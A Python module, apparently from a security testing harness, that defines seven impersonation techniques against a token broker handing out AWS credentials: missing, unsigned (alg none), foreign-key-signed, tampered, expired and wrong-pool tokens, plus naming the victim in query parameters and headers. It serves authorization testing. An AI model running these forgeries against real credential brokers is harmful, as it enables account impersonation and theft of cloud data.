"""Becoming somebody at a token broker: the function behind an API that hands out AWS credentials."""

from __future__ import annotations

from functools import partial
from typing import TYPE_CHECKING
from urllib.parse import urlencode

from harness import forgery
from harness.attacks.obtained import ObtainedCall
from harness.attacks.technique import Callers, Feature, Severity, Technique, Victim
from harness.blueprints.contract import Effect
from harness.targets.http import BearerToken, HttpRequest, RouteCall
from harness.targets.target import Capability

if TYPE_CHECKING:
    from collections.abc import Callable, Mapping
    from typing import Any

    from harness.attacks.aim import Aim
    from harness.attacks.technique import Sent, Step
    from harness.secret import Secret

_AUTHORIZERS = "https://docs.aws.amazon.com/apigateway/latest/developerguide/apigateway-integrate-with-cognito.html"


def _ask(
    aim: Aim, token: Secret | None, query: Mapping[str, str] | None = None, headers: Mapping[str, str] | None = None
) -> RouteCall:
    url = aim.credentials_url + (f"?{urlencode(query)}" if query else "")
    return RouteCall(HttpRequest("GET", url, headers or {}), None if token is None else BearerToken(token))


def _with(token_of: Callable[[Aim], Secret | None]) -> Callable[[Aim], tuple[Step, ...]]:
    return lambda aim: (_ask(aim, token_of(aim)),)


def _genuine(aim: Aim) -> tuple[Step, ...]:
    return (_ask(aim, aim.id_token),)


def _use(aim: Aim) -> Callable[[Mapping[str, Any]], Sent]:
    """Return the step that reads the victim's asset with whatever credentials the broker has given."""
    return lambda answer: ObtainedCall.from_answer(answer, aim.asset.reading)


def _in_the_victims_name(aim: Aim) -> tuple[Step, ...]:
    # Every way by which brokers have been seen to be told whom to serve, besides the token.
    victim = aim.victim
    named = {
        "identity_id": victim.identity_id,
        "identityId": victim.identity_id,
        "user": victim.username,
        "sub": aim.victims_claims.get("sub", ""),
        "tenant": aim.asset.discriminator,
        "project": aim.asset.discriminator,
    }
    headers = {f"x-{name.lower().replace('_', '-')}": value for name, value in named.items() if value.isascii()}
    return (_ask(aim, aim.id_token, named, headers), _use(aim))


_BROKER = partial(
    Technique,
    plane="broker",
    effect=Effect.SESSION,
    operation="GET",
    severity=Severity.BLOCKER,
    documentation=_AUTHORIZERS,
    cwe=("CWE-287",),
    requires=frozenset({Feature.BROKER}),
    callers=Callers.MEMBERS,
    victims=Callers.MEMBERS,
    control_steps=_genuine,
)
_NOBODY = partial(_BROKER, victim=Victim.NOBODY)

TECHNIQUES = (
    _NOBODY(
        id="broker.session.no-token",
        title="asking the broker without any token",
        catalogue=("api-missing-or-malformed-bearer",),
        cwe=("CWE-306",),
        steps=_with(lambda _: None),
    ),
    _BROKER(
        id="broker.session.unsigned",
        title="asking the broker with a token in the victim's name and the algorithm none",
        catalogue=("tok-alg-none", "api-missing-or-malformed-bearer"),
        cwe=("CWE-347",),
        steps=_with(lambda aim: forgery.unsigned(aim.id_token, **aim.victims_claims)),
    ),
    _BROKER(
        id="broker.session.foreign-key",
        title="asking the broker with a token in the victim's name signed with a key of one's own",
        catalogue=("tok-signature-stripped-or-tampered",),
        cwe=("CWE-347",),
        steps=_with(lambda aim: forgery.signed_with_foreign_key(aim.id_token, **aim.victims_claims)),
    ),
    _BROKER(
        id="broker.session.tampered",
        title="asking the broker with one's own token rewritten to the victim's name",
        catalogue=("tok-signature-stripped-or-tampered",),
        cwe=("CWE-347",),
        steps=_with(lambda aim: forgery.tampered(aim.id_token, **aim.victims_claims)),
    ),
    _NOBODY(
        id="broker.session.expired",
        title="asking the broker with one's own token after it has expired",
        catalogue=("tok-expired",),
        cwe=("CWE-613",),
        needs=frozenset({Capability.TIME_TRAVEL}),
        steps=_with(lambda aim: aim.tokens.expired(aim.caller)),
    ),
    _NOBODY(
        id="broker.session.other-pool",
        title="asking the broker with a token of another user pool",
        catalogue=("tok-wrong-issuer-attacker-pool",),
        steps=_with(lambda aim: aim.tokens.of_another_pool(aim.caller)),
    ),
    _BROKER(
        id="broker.session.forged-subject",
        title="naming the victim to the broker in parameters and headers, with one's own token",
        catalogue=("api-forged-subject-parameter", "api-path-tenant-vs-token-tenant"),
        cwe=("CWE-639",),
        actions=("s3:GetObject", "dynamodb:GetItem"),
        steps=_in_the_victims_name,
    ),
)
